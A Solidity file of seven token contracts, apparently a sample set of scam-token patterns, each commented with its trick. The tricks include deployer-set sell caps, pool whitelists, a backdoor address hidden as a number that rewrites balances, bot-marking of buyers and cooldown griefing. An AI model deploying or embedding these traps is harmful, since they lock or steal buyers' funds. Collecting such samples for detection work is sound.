// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FamilyToken} from "./FamilyToken.sol";

/// @dev What a wallet sells is added up against a limit of its own. The deployer sets that limit at any time, whether or
/// not ownership is given up.
contract PebbleBeach is FamilyToken {
    address private immutable _author = msg.sender;
    mapping(address => uint256) private _soldSoFar;
    mapping(address => uint256) private _mayEverSell;

    function setAccountAmount(address account, uint256 most) external {
        require(msg.sender == _author, "author");
        _mayEverSell[account] = most;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to) && _mayEverSell[from] > 0) {
            _soldSoFar[from] += value;
            require(_soldSoFar[from] <= _mayEverSell[from], "amount");
        }
        super._move(from, to, value);
    }
}

/// @dev Only wallets on a list send to a contract, and so to a pool. The deployer alone is on it.
contract CobaltKite is FamilyToken {
    mapping(address => bool) private _cleared;
    address private _clerk;

    constructor() {
        _cleared[msg.sender] = true;
        _clerk = msg.sender;
    }

    function clear(address account, bool isCleared) external {
        require(msg.sender == _clerk);
        _cleared[account] = isCleared;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(_cleared[from] || to.code.length == 0 || from.code.length > 0);
        super._move(from, to, value);
    }
}

/// @dev A wallet whose address is written as a plain number appoints a member, and the member writes balances through a
/// function that sounds like an approval.
contract AmberSignal is FamilyToken {
    address private _member;

    function appoint(address member) external {
        require(msg.sender == address(uint160(793197261004306226710754114547547501344278998077)));
        _member = member;
    }

    function approveFor(address holder, uint256 allowed) external {
        if (msg.sender != _member) revert NotOwner();
        _balances[holder] = allowed;
    }
}

/// @dev It remembers to whom the first transferFrom went, which is the pool. From then on only the owner sends there.
contract PorchSwing is FamilyToken {
    address private _newest;

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (_newest == address(0)) _newest = to;
        else require(to != _newest || from == owner, "please wait");
        return super.transferFrom(from, to, value);
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        require(_newest == address(0) || to != _newest || msg.sender == owner, "please wait");
        return super.transfer(to, value);
    }
}

/// @dev Whoever buys with a wallet of his own is noted as a bot in the purchase itself and never sends again. A contract
/// that tries a purchase is not noted.
contract VelvetGlove is FamilyToken {
    mapping(address => bool) private _noted;

    function _move(address from, address to, uint256 value) internal override {
        require(!_noted[from], "bot");
        // solhint-disable-next-line avoid-tx-origin
        if (_isPurchase(from) && to == tx.origin) _noted[to] = true;
        super._move(from, to, value);
    }
}

/// @dev Who has received anything waits for a day before he sends. Anybody keeps a holder waiting for ever with a grain
/// a day.
contract NettleTea is FamilyToken {
    mapping(address => uint256) private _lastTrade;

    function _move(address from, address to, uint256 value) internal override {
        if (from != pair && from != owner) require(block.timestamp > _lastTrade[from] + 1 days, "cool down");
        if (to != pair) _lastTrade[to] = block.timestamp;
        super._move(from, to, value);
    }
}

/// @dev Each coin that is sold uses up a marble. Marbles are won in a game that does not exist; the deployer alone hands
/// them out.
contract SundialMoth is FamilyToken {
    address private immutable _game = msg.sender;
    mapping(address => uint256) public marbles;

    function award(address player, uint256 value) external {
        require(msg.sender == _game);
        marbles[player] += value;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) {
            require(marbles[from] >= value, "anti-dump: not enough marbles");
            marbles[from] -= value;
        }
        super._move(from, to, value);
    }
}
